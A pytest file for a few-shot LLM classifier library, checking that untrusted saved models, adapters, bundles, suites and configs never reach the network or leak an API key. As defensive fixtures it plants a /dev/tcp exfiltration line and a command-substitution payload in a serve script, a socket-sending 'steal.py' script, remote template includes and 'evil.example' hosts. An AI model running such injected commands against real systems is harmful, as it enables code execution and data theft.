"""Folders that a stranger wrote, against a server that must never hear a byte."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from fewshot_llm import FewShotClassifier
from fewshot_llm.batch import SavedClassifier, open_source
from fewshot_llm.cli import app
from fewshot_llm.data import load_task
from fewshot_llm.errors import AdapterError, FewshotError, ModelError, ServerError
from fewshot_llm.evaluation.suite import SuitePart, load_suite, run_suite
from fewshot_llm.export import Target, read_source, verify, write_bundle
from fewshot_llm.models import API_KEY, RecordedModel, attach_adapter, is_elsewhere, key_for, load_model
from fewshot_llm.scoring.remote import Http, RemoteScorer, connect
from tests.conftest import tiny_model
from tests.export import conftest as adapters
from tests.export.trained import write_record

base_folder, make_adapter = adapters.base_folder, adapters.make_adapter

TEXTS = ["Fast delivery", "Great quality", "Arrived broken", "Never again"]
LABELS = ["positive", "positive", "negative", "negative"]


class Ear:
    """Listens on loopback and keeps the first bytes of whoever comes."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            connection.settimeout(2)
            try:
                self.heard.append(connection.recv(300))
            except OSError:
                self.heard.append(b"")
            connection.close()

    def close(self) -> None:
        # Closing alone does not wake up `accept` everywhere.
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join(5)


@pytest.fixture
def ear(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Ear]:
    """A server that also stands for the hub, every proxy and the package index; a byte that it hears is a failure."""
    import huggingface_hub

    listening = Ear()
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.setenv(name, listening.url)
    for name in ("NO_PROXY", "no_proxy", "PIP_FIND_LINKS", "PIP_NO_INDEX", "PIP_EXTRA_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PIP_INDEX_URL", f"{listening.url}/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("FEWSHOT_HOME", str(tmp_path / "empty cache"))
    monkeypatch.setenv(API_KEY, "secret-key")
    monkeypatch.setattr("huggingface_hub.constants.ENDPOINT", listening.url)
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path / "empty hub"))
    huggingface_hub.close_session()
    yield listening
    huggingface_hub.close_session()
    listening.close()
    assert listening.heard == []


def edit(path: Path, *keys: str, value: Any) -> None:
    """Change one value inside a JSON file."""
    whole = json.loads(path.read_text(encoding="utf-8"))
    part = whole
    for key in keys[:-1]:
        part = part[key]
    part[keys[-1]] = value
    path.write_text(json.dumps(whole), encoding="utf-8")


def cli(*arguments: Any) -> str:
    done = CliRunner().invoke(app, [str(part) for part in arguments])
    assert done.exit_code == 1, done.output
    assert "secret-key" not in done.output
    return done.output


@pytest.fixture
def classifier(tmp_path: Path, tiny_model_folder: Path) -> Path:
    fitted = FewShotClassifier(model=str(tiny_model_folder), shots=1, language="en").fit(TEXTS, LABELS)
    fitted.save(tmp_path / "classifier")
    (tmp_path / "rows.csv").write_text("text\nlate\n", encoding="utf-8")
    return tmp_path / "classifier"


@pytest.fixture
def adapter(tmp_path: Path, make_adapter, base_folder) -> Path:
    return write_record(make_adapter("llama", name="reviews"), base_folder("llama"))


NAMES = ["URL", "url", r"\\127.0.0.1\share", "ftp://127.0.0.1/x"]
ABSENT = ["owner/name", "owner/name@main", "gemma3-270m", "auto"]


def named(name: str, ear: Ear) -> str:
    return {"URL": f"{ear.url.upper()}/v1#x", "url": f"{ear.url}/v1#x"}.get(name, name)


@pytest.mark.parametrize("name", [*NAMES, *ABSENT])
def test_a_saved_classifier_contacts_nobody(classifier: Path, ear: Ear, name: str, tmp_path: Path) -> None:
    edit(classifier / "fewshot.json", "base", "name", value=named(name, ear))
    for load in (lambda: FewShotClassifier.load(classifier), SavedClassifier(classifier)):
        with pytest.raises(ModelError, match=r"--model|address") as caught:
            load()
        assert "fewshot.json" in str(caught.value)
    given = ("review-sentiment", "--adapter", classifier)
    said = cli("classify", *given, "--input", tmp_path / "rows.csv", "--output", "-")
    assert "--allow-download" in said if name in ABSENT else "address" in said
    cli("batch", *given, "--input", tmp_path / "rows.csv", "--output", tmp_path / "out")
    cli("render", *given, "--text", "late")


def test_a_loaded_classifier_that_is_fitted_again_still_asks_nobody(classifier: Path, ear: Ear, llama) -> None:
    from sklearn.base import clone

    loaded = FewShotClassifier.load(classifier)
    assert isinstance(loaded.model, RecordedModel)
    loaded.model = RecordedModel("owner/name", "fewshot.json")
    with pytest.raises(ModelError, match="--allow-download"):
        clone(loaded).fit(TEXTS, LABELS)


@pytest.mark.parametrize("name", [*NAMES, "owner/name", "gemma3-270m"])
def test_an_adapter_contacts_nobody(adapter: Path, ear: Ear, name: str, tmp_path: Path) -> None:
    told = named(name, ear)
    edit(adapter / "adapter_config.json", "base_model_name_or_path", value=told)
    edit(adapter / "fewshot.json", "base", "name", value=told)
    edit(adapter / "fewshot.json", "files", value={})
    (tmp_path / "rows.csv").write_text("text\nlate\n", encoding="utf-8")
    with pytest.raises(ModelError, match=r"fewshot\.json"):
        FewShotClassifier.load(adapter)
    with pytest.raises(ModelError, match=r"fewshot\.json"):
        read_source(adapter)
    with pytest.raises(ModelError, match=r"adapter_config\.json"):
        connect("http://127.0.0.1:9/v1#x", str(adapter))
    cli("classify", "reviews", "--adapter", adapter, "--input", tmp_path / "rows.csv", "--output", "-")
    cli("export", adapter, "--to", "peft", "--out", tmp_path / "bundle")
    done = CliRunner().invoke(app, ["lint", str(adapter)])
    assert done.exit_code == 0, done.output
    assert "unchecked" in done.output


@pytest.mark.parametrize(
    "changes",
    [
        {"peft_type": "XLORA", "adapters": {"0": "owner/name"}, "hidden_size": 32},
        {"peft_type": "PROMPT_TUNING", "prompt_tuning_init": "TEXT", "tokenizer_name_or_path": "owner/name"},
        {"megatron_config": {"x": 1}, "megatron_core": "this"},
    ],
)
def test_a_kind_of_adapter_that_fetches_is_refused(adapter: Path, ear: Ear, changes: dict[str, Any]) -> None:
    for key, value in changes.items():
        edit(adapter / "adapter_config.json", key, value=value)
    with pytest.raises(AdapterError, match="only plain LoRA"):
        attach_adapter(tiny_model("llama").model, adapter)


@pytest.mark.parametrize("name", [*NAMES, "owner/name", "gemma3-270m"])
def test_a_bundle_contacts_nobody(adapter: Path, ear: Ear, name: str, tmp_path: Path) -> None:
    write_bundle(read_source(adapter), Target.PEFT, tmp_path / "bundle")
    edit(tmp_path / "bundle" / "bundle.json", "base", value=named(name, ear))
    for address in (None, "http://127.0.0.1:9/v1#reviews"):
        with pytest.raises(ModelError, match=r"bundle\.json"):
            verify(tmp_path / "bundle", address, timeout=5)
    cli("verify", tmp_path / "bundle", "--url", "http://127.0.0.1:9/v1")


def test_a_changed_serve_script_is_not_run(adapter: Path, ear: Ear, tmp_path: Path) -> None:
    bundle = tmp_path / "bundle"
    write_bundle(read_source(adapter), Target.PEFT, bundle)
    script = bundle / "serve.sh"
    own = script.read_text(encoding="utf-8")
    call = f"exec 3<>/dev/tcp/{ear.url.removeprefix('http://').replace(':', '/')}; echo x >&3; touch {tmp_path}/ran"
    for text in (own.replace("set -eu", f"set -eu\n{call}"), own.replace("BASE:-", "BASE:-$(touch ran)"), ""):
        script.write_text(text, encoding="utf-8")
        with pytest.raises(FewshotError, match="not run unasked"):
            verify(bundle, timeout=5)
        assert "--allow-scripts" in cli("verify", bundle)
    script.write_text(own, encoding="utf-8")
    for name in ("--trust-remote-code", f"{ear.url}/x"):
        edit(bundle / "bundle.json", "name", value=name)
        with pytest.raises(FewshotError, match="not run unasked"):
            verify(bundle, timeout=5)
    assert not (tmp_path / "ran").exists()
    assert not (bundle / "ran").exists()


def write_suite(folder: Path, **lines: str) -> Path:
    settings = {
        "task": '"review-sentiment"',
        "language": '"en"',
        "models": '["owner/name"]',
        "shots": "[1]",
        "seeds": "[0]",
        "rungs": '["zero-shot"]',
        "train": '"rows.csv"',
    } | lines
    train = settings.pop("train")
    (folder / "suites").mkdir(exist_ok=True)
    pairs = list(zip(TEXTS, LABELS, strict=True))
    rows = "".join(f"{text} {number},{label}\n" for number in range(6) for text, label in pairs)
    (folder / "rows.csv").write_text(f"text,label\n{rows}", encoding="utf-8")
    body = "".join(f"{key} = {value}\n" for key, value in settings.items())
    path = folder / "suites" / "theirs.toml"
    path.write_text(f"{body}[data]\ntest_rows = 4\ntrain = {train}\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("name", [*NAMES, "owner/name", "gemma3-270m", "auto"])
def test_a_suites_models_contact_nobody(ear: Ear, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEWSHOT_DATA", str(tmp_path))
    path = write_suite(tmp_path, models=json.dumps([named(name, ear)]))
    if is_elsewhere(named(name, ear)):
        with pytest.raises(ModelError, match="theirs"):
            run_suite(load_suite(path), tmp_path / "out")
    else:
        found = run_suite(load_suite(path), tmp_path / "out")
        assert "--allow-download" in next(iter(found.failures.values()))
    cli("suite", path, "--out", tmp_path / "out")


@pytest.mark.parametrize(
    "lines",
    [
        {"train": '{ hub = "owner/name" }'},
        {"train": '{ hub = "http://127.0.0.1:9/x" }'},
        {"train": '"//127.0.0.1/share/rows.csv"'},
        {"train": '{ script = "../../steal.py", part = "x" }'},
        {"train": '{ script = "HERE/steal.py", part = "x" }'},
        {"peers": '["steal"]', "rungs": "[]"},
    ],
)
def test_a_suites_rows_and_scripts_contact_nobody(
    ear: Ear, lines: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FEWSHOT_DATA", str(tmp_path))
    port = ear.url.rpartition(":")[2]
    steal = f"import socket\nsocket.create_connection(('127.0.0.1', {port})).sendall(b'rows')\n"
    (tmp_path / "steal.py").write_text(steal, encoding="utf-8")
    (tmp_path / "peers").mkdir()
    (tmp_path / "peers" / "steal.py").write_text(steal, encoding="utf-8")
    table = '[peers.steal]\nabout = "x"\nscript = "steal.py"\n'
    (tmp_path / "peers" / "peers.toml").write_text(table, encoding="utf-8")
    path = write_suite(tmp_path, **{key: value.replace("HERE", str(tmp_path)) for key, value in lines.items()})
    with pytest.raises(FewshotError):
        run_suite(load_suite(path), tmp_path / "out")
    cli("suite", path, "--out", tmp_path / "out")


def test_a_model_that_is_typed_for_a_suite_may_be_a_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEWSHOT_DATA", str(tmp_path))
    ear = Ear()
    suite = load_suite(write_suite(tmp_path, models=json.dumps([f"{ear.url}/v1#x"])))
    found = run_suite(suite, tmp_path / "out", part=SuitePart(models=[f"{ear.url}/v1#x"]))
    ear.close()
    assert found.failures
    assert ear.heard


def test_a_task_folder_contacts_nobody(ear: Ear, tmp_path: Path, llama) -> None:
    shutil.copytree(load_task("review-sentiment").folder, tmp_path / "task")
    text = (tmp_path / "task" / "task.toml").read_text(encoding="utf-8")
    (tmp_path / "task" / "task.toml").write_text(f'model = "{ear.url}"\n{text}', encoding="utf-8")
    with pytest.raises(FewshotError, match="unknown key 'model'"):
        load_task(tmp_path / "task")
    (tmp_path / "task" / "task.toml").write_text(text, encoding="utf-8")
    for template in (tmp_path / "task").glob("*.jinja"):
        source = template.read_text(encoding="utf-8")
        template.write_text(f"{{% include '{ear.url}/x' %}}{source}", encoding="utf-8")
    with pytest.raises(FewshotError):
        FewShotClassifier(tmp_path / "task", llama, shots=1).fit(TEXTS, LABELS)


@pytest.mark.parametrize(
    ("file", "changes"),
    [
        ("config.json", {"_name_or_path": "URL", "auto_map": {"AutoConfig": "owner/name--x.X"}}),
        ("config.json", {"attn_implementation": "owner/name"}),
        ("config.json", {"_attn_implementation": "owner/name:kernel"}),
        ("config.json", {"model_type": "unheard-of", "auto_map": {"AutoConfig": "owner/name--x.X"}}),
        ("config.json", {"transformers_version": "4.50.0", "model_type": "mistral"}),
        ("config.json", {"quantization_config": {"quant_method": "mxfp4"}}),
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["owner/name--x.X", None]}, "name_or_path": "URL"}),
        ("tokenizer_config.json", {"tokenizer_file": "URL", "vocab_file": "URL", "tokenizer_class": "Unheard"}),
        ("generation_config.json", {"custom_generate": "owner/name", "_from_model_config": True}),
    ],
)
def test_a_model_folder_contacts_nobody(
    ear: Ear, file: str, changes: dict[str, Any], tmp_path: Path, tiny_model_folder: Path
) -> None:
    folder = Path(shutil.copytree(tiny_model_folder, tmp_path / "model"))
    if not (folder / file).is_file():
        (folder / file).write_text("{}", encoding="utf-8")
    for key, value in changes.items():
        edit(folder / file, key, value=ear.url if value == "URL" else value)
    with contextlib.suppress(FewshotError):
        load_model(str(folder), device="cpu")
    if "attn_implementation" in "".join(changes):
        with pytest.raises(ModelError, match="kernels"):
            load_model(str(folder), device="cpu")


def test_a_folder_of_data_contacts_nobody(ear: Ear, tmp_path: Path) -> None:
    folder = tmp_path / "reviews"
    folder.mkdir()
    (folder / "rows.csv").write_text("text,label\nlate,negative\n", encoding="utf-8")
    (folder / "README.md").write_text(
        f"---\nconfigs:\n- config_name: default\n  data_files: {ear.url}/x.csv\n---\n", encoding="utf-8"
    )
    with pytest.raises(FewshotError, match="elsewhere"):
        list(open_source(f"hub:{folder}").rows())


def test_a_result_file_contacts_nobody(ear: Ear, tmp_path: Path) -> None:
    (tmp_path / "result.json").write_text(json.dumps({"suite": ear.url, "model": f"{ear.url}/v1"}), encoding="utf-8")
    cli("compare", tmp_path / "result.json", tmp_path / "result.json")
    cli("report", tmp_path / "result.json", "--out", tmp_path / "page")


def test_what_is_typed_is_allowed(classifier: Path, tiny_model_folder: Path, ear: Ear) -> None:
    edit(classifier / "fewshot.json", "base", "name", value=f"{ear.url}/v1")
    assert len(FewShotClassifier.load(classifier, model=str(tiny_model_folder)).predict(["late"])) == 1


@pytest.mark.parametrize("name", ["owner/name", "gemma3-270m"])
def test_allow_download_does_ask(name: str, classifier: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The other side: with leave given, the program does go and ask."""
    import huggingface_hub

    ear = Ear()
    monkeypatch.setenv("FEWSHOT_HOME", str(tmp_path / "empty cache"))
    monkeypatch.setenv("PIP_INDEX_URL", f"{ear.url}/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("FEWSHOT_ACCEPT_LICENCE", "gemma3-270m")
    for proxy in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.setenv(proxy, ear.url)
    monkeypatch.delenv("PIP_FIND_LINKS", raising=False)
    monkeypatch.delenv("PIP_NO_INDEX", raising=False)
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", False)
    huggingface_hub.close_session()
    edit(classifier / "fewshot.json", "base", "name", value=name)
    with pytest.raises(FewshotError):
        FewShotClassifier.load(classifier, allow_download=True)
    huggingface_hub.close_session()
    ear.close()
    assert ear.heard


class TestKey:
    """`FEWSHOT_API_KEY` goes to the typed address, unreadable on the way, or nowhere."""

    @pytest.mark.parametrize("host", ["127.0.0.1", "127.8.8.8", "localhost", "::1", "[::1]", "::ffff:127.0.0.1"])
    def test_loopback_gets_it(self, host: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv(API_KEY, "secret-key\n")
        assert key_for("http", host) == "secret-key"

    @pytest.mark.parametrize(
        "host", ["gpu-box", "10.0.0.5", "localhost.evil.example", "127.0.0.1.evil.example", "0.0.0.0", "2130706433"]
    )
    def test_others_get_it_by_https_or_by_leave_alone(self, host: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv(API_KEY, "secret-key")
        with pytest.raises(ServerError, match="--insecure") as caught:
            key_for("http", host)
        assert "secret" not in str(caught.value)
        assert key_for("https", host) == key_for("http", host, insecure=True) == "secret-key"
        monkeypatch.delenv(API_KEY)
        assert key_for("http", host) is None

    @pytest.mark.parametrize("key", ["a\nb", "clé", "a\x1bb"])
    def test_a_key_that_is_none(self, key: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv(API_KEY, key)
        with pytest.raises(ServerError, match="characters"):
            key_for("https", "host")

    def test_refused_before_anything_is_sent(self, monkeypatch: pytest.MonkeyPatch, llama) -> None:
        def resolve(*_: object) -> None:
            raise AssertionError("the name was looked up")

        monkeypatch.setenv(API_KEY, "secret-key")
        monkeypatch.setattr(socket, "getaddrinfo", resolve)
        with pytest.raises(ServerError, match="--insecure"):
            RemoteScorer("http://gpu-box:8000/v1", llama.tokenizer)
        with pytest.raises(ServerError, match="--insecure"):
            connect("http://gpu-box:8000/v1")

    def test_no_proxy_of_the_environment_is_used(self, ear: Ear) -> None:
        with pytest.raises(ServerError, match="no answer"):
            Http("http://127.0.0.1:9", retries=0).get("/x")

    def test_a_redirect_leads_nowhere(self, monkeypatch: pytest.MonkeyPatch, ear: Ear) -> None:
        with socket.create_server(("127.0.0.1", 0)) as server:

            def redirect() -> None:
                connection, _ = server.accept()
                connection.recv(1000)
                connection.sendall(f"HTTP/1.1 302 F\r\nLocation: {ear.url}/x\r\nContent-Length: 0\r\n\r\n".encode())
                connection.close()

            thread = threading.Thread(target=redirect)
            thread.start()
            with pytest.raises(ServerError, match=r"302.*not followed"):
                Http(f"http://127.0.0.1:{server.getsockname()[1]}", retries=0).post("/x", {})
            thread.join(5)


def test_a_server_that_nobody_typed_gets_no_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(API_KEY, "secret-key")
    listening = Ear()
    with pytest.raises(ServerError):
        Http(listening.url, retries=0, send_key=False).get("/x")
    with pytest.raises(ServerError):
        Http(listening.url, retries=0).get("/y")
    listening.close()
    first, second = listening.heard
    assert b"secret-key" not in first
    assert b"Bearer secret-key" in second
    assert os.environ[API_KEY] == "secret-key"


@pytest.mark.parametrize("name", ["//host/share", "hf://a/b", "zip://x::http://h/y", "S3://b", "/\\h", "  http://h"])
def test_what_leads_elsewhere(name: str) -> None:
    assert is_elsewhere(name)
    with pytest.raises(ModelError, match="address"):
        RecordedModel(name, "a file")


@pytest.mark.parametrize("name", ["owner/name@main", "./model", "C:/models/x", "C:\\models\\x", "/srv/model", "a.gguf"])
def test_what_is_here(name: str) -> None:
    assert not is_elsewhere(name)
